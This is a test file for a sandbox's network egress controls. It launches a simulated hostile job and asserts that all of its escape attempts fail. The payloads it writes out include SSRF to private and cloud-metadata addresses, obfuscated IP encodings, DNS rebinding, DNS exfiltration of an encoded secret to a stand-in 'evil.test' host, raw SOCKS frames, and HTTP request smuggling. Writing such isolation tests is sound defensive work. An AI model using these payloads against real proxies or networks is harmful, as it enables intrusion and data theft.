import { readFileSync } from "node:fs";
import type { Server } from "node:net";
import { afterAll, describe, expect, test } from "vitest";
import { cageTest, setStage } from "./cage-stage.ts";
import {
  type Canary,
  type ClosedRun,
  type Credentials,
  makeCredentials,
  Names,
  nodeInside,
  openCanary,
  openHttp,
  openHttps,
  ownLoopback,
  portOf,
  runClosed,
} from "./egress-world.ts";

/** What a hostile job is let loose on. It is opened before rights are given up: port 443 is for root. */
export type AttackWorld = {
  canary: Canary;
  credentials: Credentials;
  /** The one host that the job may reach, with TLS on port 443 at an address of its own. */
  secure: { server: Server; address: string } | null;
  http: Server;
};

export async function openAttackWorld(): Promise<AttackWorld> {
  const credentials = makeCredentials(["good.test", "other.test"]);
  const address = ownLoopback();
  const canary = await openCanary();
  const http = await openHttp((request, response) => {
    const to = new URL(request.url ?? "/", "http://x").searchParams.get("to");
    if (to === null) response.end(`good ${request.headers.host}\n`);
    else response.writeHead(302, { location: to }).end();
  });
  const server =
    process.getuid?.() === 0
      ? await openHttps(credentials, (_request, response) => response.end("welcome"), {
          host: address,
          port: 443,
        })
      : null;
  return { canary, credentials, http, secure: server && { server, address } };
}

type Attempt = { way: "tcp" | "say" | "udp" | "tls" } & Record<string, unknown>;

const program = readFileSync(new URL("./hostile-network.mjs", import.meta.url), "utf8");

/** A job that tries everything to get out of its closed network. The canary stays silent. */
export function describeAttacks({ canary, credentials, secure, http }: AttackWorld): void {
  const stage = setStage();
  const port = canary.tcpPort;
  let turn = 0;
  const names = new Names({
    "good.test": [secure?.address ?? "127.0.0.1"],
    "plain.test": ["127.0.0.1"],
    "ten.test": ["10.0.0.1"],
    "host.test": canary.addresses.filter((address) => address !== "127.0.0.1"),
    "loop.test": ["127.0.0.1"],
    "loop6.test": ["::1"],
    "link.test": ["169.254.169.254"],
    "link6.test": ["fe80::1"],
    "mapped.test": ["::ffff:127.0.0.1"],
    "nat64.test": ["64:ff9b::7f00:1", "64:ff9b:1::a00:1"],
    "local6.test": ["fd00::1"],
    "shared.test": ["100.64.0.1"],
    "zero.test": ["0.0.0.0", "::"],
    "mixed.test": ["127.0.0.1", "::1", "10.0.0.1"],
    // The first answer is what the worker's file allows, every other one is not.
    "rebind.test": () => [turn++ % 2 === 0 ? "127.0.0.1" : "127.0.0.2"],
  });

  afterAll(() => {
    canary.close();
    http.close();
    secure?.server.close();
    credentials.close();
  });

  /** The job may reach every name that points into private networks, but the worker's file names only two addresses. */
  async function attack(attempts: readonly Attempt[]): Promise<{ said: string[]; ran: ClosedRun }> {
    const httpPort = portOf(http);
    const inside = Object.keys(names.table).flatMap((name) => [`${name}:${port}`, `${name}:80`]);
    const ran = await runClosed(
      stage,
      [nodeInside, "--input-type=module", "-e", program, "--", JSON.stringify(attempts)],
      {
        names,
        egress: { allow: ["good.test:443", `plain.test:${httpPort}`, ...inside].slice(0, 64) },
        allow: [
          "*:80",
          "*:443",
          `*:${port}`,
          `*:${httpPort}`,
          `127.0.0.1:${httpPort}`,
          ...(secure === null ? [] : [`${secure.address}:443`]),
        ],
        // A job that sets its own is asked for nothing.
        env: { NODE_USE_ENV_PROXY: "0" },
      },
    );
    const { stderr, exitCode, signal, spawnError } = ran;
    expect({ stderr, exitCode, signal, spawnError }).toEqual({ stderr: "", exitCode: 0, signal: null });
    return { said: JSON.parse(ran.stdout) as string[], ran };
  }

  function expectSilence(said: readonly string[], { network }: ClosedRun["usage"] = {}): void {
    expect({ heard: canary.heard, sings: said.filter((text) => text.includes("sings")) }).toEqual({
      heard: [],
      sings: [],
    });
    expect(said.length).toBeGreaterThanOrEqual(5);
    if (network !== undefined) expect(network.denied).toBeGreaterThanOrEqual(5);
  }

  const direct = [
    ...canary.addresses,
    "127.0.0.2",
    "169.254.169.254",
    "10.0.0.1",
    "192.0.2.1",
    "0.0.0.0",
    "::",
  ];
  const connectTo = (authority: string): Attempt => ({
    way: "say",
    parts: [`CONNECT ${authority} HTTP/1.1\r\nHost: ${authority}\r\n\r\n`],
  });
  const getFrom = (url: string): Attempt => ({
    way: "say",
    parts: [`GET ${url} HTTP/1.1\r\nHost: plain.test\r\n\r\n`],
  });

  describe("a hostile job in a closed network", () => {
    cageTest("is what the canary listens for: it hears one that comes", async () => {
      const net = await import("node:net");
      await new Promise((resolve) => net.connect(port, "127.0.0.1").on("close", resolve).resume());
      expect(canary.heard.splice(0)).toHaveLength(1);
    });

    cageTest("reaches no address by itself, by TCP", async () => {
      const { said } = await attack(direct.map((host) => ({ way: "tcp", to: { host, port } })));
      expectSilence(said);
      for (const text of said)
        expect(text).toMatch(/^(ENETUNREACH|ECONNREFUSED|EHOSTUNREACH|EADDRNOTAVAIL|EINVAL)$/);
    });

    cageTest("reaches no address by UDP, nor by the UDP and the BIND of SOCKS", async () => {
      const to = canary.addresses.map(
        (host): Attempt => ({ way: "udp", to: { host, port: canary.udpPort } }),
      );
      const socks = [
        "050100 050300010000000000 00",
        "050100 05030001 7f000001 0035",
        "050100 05020001 7f000001 0050",
      ];
      const { said, ran } = await attack([
        ...to,
        ...["255.255.255.255", "224.0.0.1", "8.8.8.8"].map(
          (host): Attempt => ({ way: "udp", to: { host, port: canary.udpPort } }),
        ),
        ...socks.map((text): Attempt => {
          const [greeting = "", ...rest] = text.split(" ");
          return { way: "say", encoding: "hex", parts: [greeting, rest.join("")] };
        }),
      ]);
      expectSilence(said);
      expect(said.slice(-3).map((text) => text.charCodeAt(3))).toEqual([7, 7, 7]);
      expect(ran.usage.network).toMatchObject({ bytes: 0 });
    });

    cageTest("tells no name server anything, straight or by names that are not allowed", async () => {
      const before = names.asked.length;
      const secret = "c2VjcmV0.evil.test";
      const socksName = Buffer.from(secret).toString("hex");
      const { said, ran } = await attack([
        { way: "udp", to: { host: "8.8.8.8", port: 53, text: secret } },
        { way: "tcp", to: { host: "8.8.8.8", port: 53 } },
        { way: "udp", to: { host: "127.0.0.53", port: 53, text: secret } },
        connectTo(`${secret}:443`),
        connectTo(`${secret}:53`),
        getFrom(`http://${secret}/`),
        getFrom(`http://plain.test.${secret}/`),
        connectTo(`good.test.${secret}:443`),
        connectTo("1.1.1.1:53"),
        {
          way: "say",
          encoding: "hex",
          parts: ["050100", `05010003${secret.length.toString(16).padStart(2, "0")}${socksName}01bb`],
        },
      ]);
      expectSilence(said, ran.usage);
      expect(names.asked.slice(before)).toEqual([]);
    });

    cageTest("reaches no address that it writes as one, in whichever way", async () => {
      const hosts = [
        "127.0.0.1",
        "[::1]",
        "[::ffff:127.0.0.1]",
        "[::ffff:7f00:1]",
        "2130706433",
        "0x7f000001",
        "127.1",
      ];
      const odd = [
        "0177.0.0.1",
        "[::]",
        "[0:0:0:0:0:ffff:127.0.0.1]",
        "localhost",
        "[fe80::1%25lo]",
        "127.0.0.1.",
      ];
      const { said, ran } = await attack([
        ...[...hosts, ...odd].flatMap((host) => [
          connectTo(`${host}:${port}`),
          getFrom(`http://${host}:${port}/`),
        ]),
        {
          way: "say",
          encoding: "hex",
          parts: ["050100", `050100017f000001${port.toString(16).padStart(4, "0")}`],
        },
        {
          way: "say",
          encoding: "hex",
          parts: ["050100", `05010004${"00".repeat(15)}01${port.toString(16).padStart(4, "0")}`],
        },
      ]);
      expectSilence(said, ran.usage);
      expect(ran.usage.network?.requests).toBe(ran.usage.network?.denied);
    });

    cageTest("reaches nothing private behind a name that it is allowed", async () => {
      const inside = [
        "ten",
        "host",
        "loop",
        "loop6",
        "link",
        "link6",
        "mapped",
        "nat64",
        "local6",
        "shared",
        "zero",
        "mixed",
      ];
      const { said, ran } = await attack([
        ...inside.map((name) => connectTo(`${name}.test:${port}`)),
        ...inside.map((name) => getFrom(`http://${name}.test:${port}/`)),
      ]);
      expectSilence(said, ran.usage);
      for (const text of said) expect(text).toMatch(/^HTTP\/1\.1 403 Forbidden/);
      expect(ran.usage.network?.denied).toBe(2 * inside.length);
    });

    cageTest("gains nothing from a name that means something else each time", async () => {
      const { said } = await attack(Array.from({ length: 10 }, () => connectTo(`rebind.test:${port}`)));
      expectSilence(said);
      for (const text of said) expect(text).toMatch(/^HTTP\/1\.1 403 Forbidden/);
    });

    cageTest("is sent nowhere by a redirect", async () => {
      const plain = `http://plain.test:${portOf(http)}`;
      const places = [...canary.addresses.slice(0, 3), "loop.test", "elsewhere.test"];
      const urls = places.map((host) => `http://${host.includes(":") ? `[${host}]` : host}:${port}/`);
      const { said } = await attack(urls.map((url) => getFrom(`${plain}/?to=${encodeURIComponent(url)}`)));
      expectSilence(said);
      for (const [index, text] of said.entries()) {
        expect(text).toMatch(/^HTTP\/1\.1 302 Found/);
        expect(text).toContain(urls[index]);
      }
    });

    cageTest("reaches nothing by IPv6", async () => {
      const own = canary.addresses.filter((address) => address.includes(":"));
      const { said } = await attack([
        ...["::1", ...own, "fd00::1", "2001:db8::1", "ff02::1", "::ffff:127.0.0.1"].map(
          (host): Attempt => ({ way: "tcp", to: { host, port } }),
        ),
        ...["[::1]", "loop6.test", "link6.test", "local6.test", "mapped.test"].map((host) =>
          connectTo(`${host}:${port}`),
        ),
      ]);
      expectSilence(said);
    });

    cageTest("gains nothing by speaking to the proxy in ways that are no request", async () => {
      const good = `http://plain.test:${portOf(http)}/`;
      const to = `loop.test:${port}`;
      const raw = (...parts: string[]): Attempt => ({ way: "say", parts });
      const { said, ran } = await attack([
        raw("hello\r\n\r\n"),
        raw("GET / HTTP/1.1\r\nHost: plain.test\r\n\r\n"),
        raw(`GET https://${to}/ HTTP/1.1\r\nHost: x\r\n\r\n`),
        raw(`GET ftp://${to}/ HTTP/1.1\r\nHost: x\r\n\r\n`),
        raw(`GET http://user:word@${to}/ HTTP/1.1\r\nHost: x\r\n\r\n`),
        raw(`GET http://plain.test@${to}/ HTTP/1.1\r\nHost: x\r\n\r\n`),
        raw("OPTIONS * HTTP/1.1\r\nHost: x\r\n\r\n"),
        raw("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
        raw(`CONNECT ${to}\r\n\r\n`),
        raw("CONNECT  HTTP/1.1\r\n\r\n"),
        raw(`CONNECT plain.test:99999 HTTP/1.1\r\nHost: x\r\n\r\n`),
        raw(`CONNECT plain.test:${portOf(http)}@${to} HTTP/1.1\r\nHost: x\r\n\r\n`),
        raw(
          `GET ${good} HTTP/1.1\r\nHost: x\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n`,
        ),
        raw(`GET ${good} HTTP/1.1\r\nHost: x\r\n${"X: y".repeat(20_000)}\r\n\r\n`),
        raw(`GET ${good} HTTP/1.1\r\nHost: ${to}\r\n\r\nGET http://${to}/ HTTP/1.1\r\nHost: x\r\n\r\n`),
        raw("\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"),
        raw("\x04\x01\x00\x50\x7f\x00\x00\x01\x00"),
        raw("\x05\x01\x02", "x"),
        raw("\x05\x01\x00", "\x05\x01\x00\x09\x00\x00\x00\x00\x00\x00"),
        raw("\x05\x01\x00", "\x04\x01\x00\x01\x7f\x00\x00\x01\x00\x50"),
        raw(`CONNECT plain.test.writ.internal:80 HTTP/1.1\r\n\r\n`, `CONNECT ${to} HTTP/1.1\r\n\r\n`),
        raw(`GET http://loop.test.writ.internal/ HTTP/1.1\r\nHost: x\r\n\r\n`),
      ]);
      expectSilence(said, ran.usage);
      // The pipelined second request is not even read.
      expect(said[14]).toContain(`good plain.test:${portOf(http)}`);
      expect(said.at(-1)).toContain("NO_SUCH_SECRET");
    });

    cageTest("does not find the way out of another job", async () => {
      const ports = [3128, 3129, 80, 443, 8080, 1, 65_535];
      const script =
        "cat /proc/net/unix | wc -l; ls /proc | grep -c '^[0-9]'; find / -xdev -type s 2>/dev/null | wc -l";
      const other = runClosed(stage, ["sleep", "1"], {
        names,
        egress: { allow: [`loop.test:${port}`] },
        allow: [`*:${port}`, `127.0.0.1:${port}`],
      });
      const found = await runClosed(stage, ["sh", "-c", script], { names, egress: { allow: [] } });
      const [sockets, , files] = found.stdout.split("\n").map(Number);
      expect({ sockets, files }).toEqual({ sockets: 1, files: 0 });
      const { said } = await attack([
        ...ports.slice(1).map((at): Attempt => ({ way: "tcp", to: { host: "127.0.0.1", port: at } })),
        ...["127.0.0.2", "127.1.2.3"].map((host): Attempt => ({ way: "tcp", to: { host, port: 3128 } })),
        connectTo("127.0.0.1:3128"),
        connectTo(`loop.test:${port}`),
      ]);
      expectSilence(said);
      await other;
    });

    const tlsTest = secure === null ? skipped : cageTest;
    tlsTest("speaks on port 443 nothing but TLS with the name that it is allowed", async () => {
      const authority = "good.test:443";
      const connectFirst = `CONNECT ${authority} HTTP/1.1\r\nHost: ${authority}\r\n\r\n`;
      const raw = (text: string): Attempt => ({ way: "say", parts: [connectFirst, text] });
      const { said, ran } = await attack([
        { way: "tls", authority, servername: "good.test" },
        { way: "tls", authority, servername: "other.test" },
        { way: "tls", authority, servername: "good.test.other.test" },
        { way: "tls", authority },
        raw("GET / HTTP/1.1\r\nHost: good.test\r\n\r\n"),
        raw("SSH-2.0-OpenSSH_9.2\r\n"),
        raw("\x16\x03\x01\x00\x00"),
        getFrom("http://good.test:443/"),
        { way: "tls", authority: `${secure?.address}:443`, servername: "good.test" },
      ]);
      expectSilence(said, ran.usage);
      expect(said[0]).toBe("welcome");
      expect(said.slice(1).join()).not.toContain("welcome");
      expect(ran.isolation.network?.allowed).toEqual([{ host: authority, requests: 1 }]);
      expect(ran.isolation.network?.denied.map(({ why }) => why)).toEqual(
        expect.arrayContaining([
          "it is TLS with another server",
          "it names no server",
          "it is not TLS",
          "is reached by TLS only",
        ]),
      );
    });
  });
}

function skipped(name: string, run: () => Promise<void>): void {
  test.skip(`${name} (not capable: only root listens on port 443)`, run);
}
